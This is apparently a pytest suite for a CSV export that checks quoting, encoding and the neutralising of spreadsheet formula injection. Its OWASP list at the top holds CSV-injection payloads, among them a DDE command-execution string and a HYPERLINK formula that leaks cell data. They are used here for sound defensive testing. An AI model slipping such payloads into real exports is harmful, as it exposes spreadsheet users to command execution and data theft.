"""CSV exports: fixed columns, RFC 4180, UTF-8 (BOM for Excel), and no cell runs as a formula;
from SQLite and PostgreSQL alike."""

from __future__ import annotations

import csv
import io
import re
import sqlite3
from contextlib import closing
from itertools import cycle, islice
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from handbook.cli import main
from handbook.records import csv as records_csv
from handbook.records.contract import EXPORTS, PERSON_COLUMNS, PERSON_IDS
from handbook.records.csv import formula_like, neutralise, write_rows
from handbook.records.stores import open_store
from tests.conftest import copy_project
from tests.records_kit import Service, acknowledgement, project_at, violation_report

OWASP = [
    '=1+2";=1+2',
    '=HYPERLINK("http://x?"&A1,"y")',
    "@SUM(1)",
    "-2+3",
    "+1",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    "=cmd|' /C calc'!A0",
]
PERSON = {"employee_id": "P-csv-1", "name": "Person Name", "department": "Person Dept", "role": "sma",
          "email": "person@example.org"}


PIECE = re.compile(r"(?:^|[,;\t\r\n]) *([^,;\t\r\n]*)")
"""A piece of a cell a spreadsheet may see as a cell of its own: the start, or after any
separator (comma, semicolon, tab) or line break, leading spaces skipped."""
LEGITIMATE = ["-Ann", "+1 860 555 0100", "@Home", "Ann O'Neil", "", "Smith, Ann; Parks", "-"]


def runnable(text: str) -> list[str]:
    return [piece for piece in PIECE.findall(text) if piece[:1] == "=" or formula_like(piece)]


def undone(text: str) -> str:
    """The text without the quotes neutralising put before pieces."""
    return re.sub(r"(^|[,;\t\r\n])( *)'", r"\1\2", text)


def test_each_owasp_vector_is_defused_wherever_a_formula_could_start():
    for vector in [*OWASP, "Ann;=1+2", "Ann\t=1+2", "x,@SUM(1)", "a\r\n-2+3"]:
        assert runnable(vector) and not runnable(neutralise(vector)), vector
        assert undone(neutralise(vector)) == vector
    assert neutralise("Ann;=1+2") == "Ann;'=1+2"
    assert neutralise("=1+2") == "'=1+2"


def test_legitimate_values_are_left_as_typed():
    for value in LEGITIMATE:
        assert neutralise(value) == value


@given(st.lists(st.text(max_size=20), min_size=1, max_size=6))
def test_no_piece_of_any_cell_can_run_as_a_formula_and_every_cell_is_quoted(values):
    columns = tuple(f"c{i}" for i in range(len(values)))
    text = "".join(write_rows(columns, [values]))
    header, row = list(csv.reader(io.StringIO(text, newline="")))
    assert header == list(columns)
    assert [undone(cell) for cell in row] == [undone(value) for value in values]
    assert not any(runnable(cell) for cell in row)
    assert text.count('"') >= 2 * (len(values) * 2)  # every header and value cell is quoted


def test_rows_end_with_crlf_and_excel_gets_a_bom():
    text = "".join(write_rows(("a", "b"), [["x,y", 'say "hi"\nbye']], excel=True))
    assert text.endswith('"x,y","say ""hi""\nbye"\r\n')
    assert text.startswith('\ufeff"a","b"\r\n')


@pytest.fixture(scope="module")
def exported(built_site: Path, tmp_path_factory: pytest.TempPathFactory, new_db) -> dict[str, str]:
    """Records with the OWASP vectors in names and form answers, sent to the service."""
    base = tmp_path_factory.mktemp("csv")
    root = copy_project(base / "project")
    project = project_at(root)
    db = new_db(base)
    service = Service(root, built_site, db)
    try:
        for i, vector in enumerate(OWASP):
            person = {"employee_id": f"X{i}", "name": vector, "department": vector, "role": "employee",
                      "email": None}
            record = acknowledgement(project, employee_id=f"X{i}", name=vector, signature=vector)
            record["person"] = person
            assert service.post("/api/records", record)[0] == 201
            form = violation_report(project, employee_id=f"X{i}", name=vector, description=vector)
            form["person"] = person
            assert service.post("/api/records", form)[0] == 201
        assert set(PERSON) == set(PERSON_IDS)
        for record in (acknowledgement(project, person=PERSON, signature="Signed"),
                       violation_report(project, person=PERSON)):
            assert service.post("/api/records", record)[0] == 201
        texts = {kind: service.get(f"/api/export/{kind}.csv", service.auth())[2] for kind in EXPORTS}
        texts["excel"] = service.get("/api/export/forms.csv?excel=1", service.auth())[2]
        runner = CliRunner()
        with pytest.MonkeyPatch.context() as patch:
            patch.chdir(base)  # with PostgreSQL, the audit log goes to the working folder
            result = runner.invoke(main, ["records", "export", str(root), "--kind", "forms",
                                          "--db", str(db), "--excel"])
        assert result.exit_code == 0, result.output
        texts["cli"] = result.stdout_bytes.decode("utf-8")
        texts["db"] = str(db)
        return texts
    finally:
        service.close()


def test_exports_have_the_contracts_columns(exported):
    for name, export in EXPORTS.items():
        assert exported[name].split("\r\n", 1)[0] == ",".join(f'"{column}"' for column in export.columns)


def test_the_person_fields_are_in_the_contracts_person_columns(exported):
    for name in ("acknowledgements", "forms"):
        rows = csv.DictReader(io.StringIO(exported[name], newline=""))
        row = next(row for row in rows if row["employee_id"] == PERSON["employee_id"])
        assert [column for column, value in row.items() if value in PERSON.values()] == list(PERSON_COLUMNS)


def test_owasp_vectors_in_names_and_form_answers_come_out_neutralised(exported):
    for kind in ("acknowledgements", "forms"):
        rows = [row for row in csv.DictReader(io.StringIO(exported[kind], newline=""))
                if row["employee_id"].startswith("X")]
        assert rows
        for row in rows:
            assert not [value for value in row.values() if runnable(value)], row
        names = {row["name"] for row in rows}
        assert {undone(name) for name in names} == {vector.strip() for vector in OWASP}  # trimmed
    answers = {row["answer"] for row in csv.DictReader(io.StringIO(exported["forms"], newline=""))
               if row["field_id"] == "description" and row["employee_id"].startswith("X")}
    assert {undone(answer) for answer in answers} == set(OWASP)
    assert not [answer for answer in answers if runnable(answer)]


def test_the_cli_and_the_service_export_the_same_bytes(exported):
    assert exported["excel"].startswith('\ufeff"record_id",')
    assert exported["cli"] == exported["excel"]
    assert "\r\n" in exported["cli"] and "\n" not in exported["cli"].replace("\r\n", "").replace(
        "\n'=1+2", "")


def test_sqlite_writes_the_acknowledgements_csv_the_cell_by_cell_writer_would(exported):
    """The acknowledgements export has SQLite write each line (no object per row); it must be
    byte for byte what the cell-by-cell writer makes of the same rows, OWASP vectors included.
    (From PostgreSQL the export goes cell by cell: the same bytes by the other road.)"""
    store = open_store(exported["db"])
    try:
        fast = "".join(records_csv.export_store(store, "acknowledgements", include_void=True, excel=True))
        columns = records_csv.STORED_COLUMNS["acknowledgements"]
        rows = store.rows("acknowledgement", columns, include_void=True)
        by_cell = "".join(records_csv.export("acknowledgements", rows, excel=True))
    finally:
        store.close()
    assert fast == by_cell
    assert fast.count("\r\n") > len(OWASP) and "'=1+2" in fast


SCORES = [None, 0.0, 100.0, 66.67, 33.33, 2.675, 0.125, 100 / 3, 99.995, 1e-7, 5e9, 12.5]
"""Scores SQLite's printf would write as Python does (2 decimals at most) and ones it would
round otherwise (ties like 2.675, long fractions, outside 0-100), which go through Python."""
NAMES = {"spaced": [" =1+2", "a;  @SUM(1)", "Ann,\t +1"],
         "mixed": ['Ann "=1" x', "é ,=ü", '"quoted"', " - ", "-", "Ann,\t+1", "Ann O'Neil"]}
"""Names with a formula only after spaces (the batch check must see through them), and ones with
a formula after a quote or a separator beside harmless signs."""


@pytest.mark.parametrize("new_db", ["sqlite"], indirect=True)  # SQLite alone writes the lines
@pytest.mark.parametrize("names", NAMES)
def test_sqlite_writes_every_score_and_name_as_the_cell_by_cell_writer(exported, tmp_path, names):
    """Whatever a stored score or name holds, the SQLite-written lines equal :func:`records_csv.export`'s,
    so a score is rounded as Python rounds it and every formula is found in the batch check."""
    db = tmp_path / "odd.sqlite"
    with closing(sqlite3.connect(exported["db"])) as source, closing(sqlite3.connect(db)) as copy:
        source.backup(copy)
        copy.execute("DELETE FROM records WHERE employee_id LIKE 'X%'")  # only these names hold formulas
        seqs = [seq for (seq,) in copy.execute("SELECT seq FROM records WHERE kind = 'acknowledgement'")]
        for n, (score, name) in enumerate(zip(SCORES, cycle(NAMES[names]))):
            seq = seqs[0] if n == 0 else copy.execute(  # one record for each score
                "INSERT INTO records SELECT seq + ?, id || ?, kind, policy_id, policy_version, policy_hash, "
                "quiz_id, quiz_version, form_id, form_version, employee_id, name, department, role, email, "
                "statement, signature, questions, answers, score, passed, pass_mark, attempt, client_score, "
                "client_passed, score_note, started_at, submitted_at, user_agent, received_at, source, body, "
                "identity, identity_issuer, identity_subject, chain FROM records WHERE seq = ?",
                (1000 + n, f"-{n}", seqs[0])).lastrowid
            copy.execute("UPDATE records SET score = ?, name = ? WHERE seq = ?", (score, name, seq))
        copy.commit()
    store = open_store(db)
    try:
        fast = "".join(records_csv.export_store(store, "acknowledgements"))
        rows = store.rows("acknowledgement", records_csv.STORED_COLUMNS["acknowledgements"])
        by_cell = "".join(records_csv.export("acknowledgements", rows))
    finally:
        store.close()
    assert fast == by_cell
    rows = list(csv.DictReader(io.StringIO(fast, newline="")))
    assert [row["score"] for row in rows] == [
        "", "0", "100", "66.67", "33.33", "2.67", "0.12", "33.33", "100", "0", "5000000000", "12.5"]
    assert [undone(row["name"]) for row in rows] == list(islice(cycle(NAMES[names]), len(SCORES)))
    assert not [row["name"] for row in rows if runnable(row["name"])]
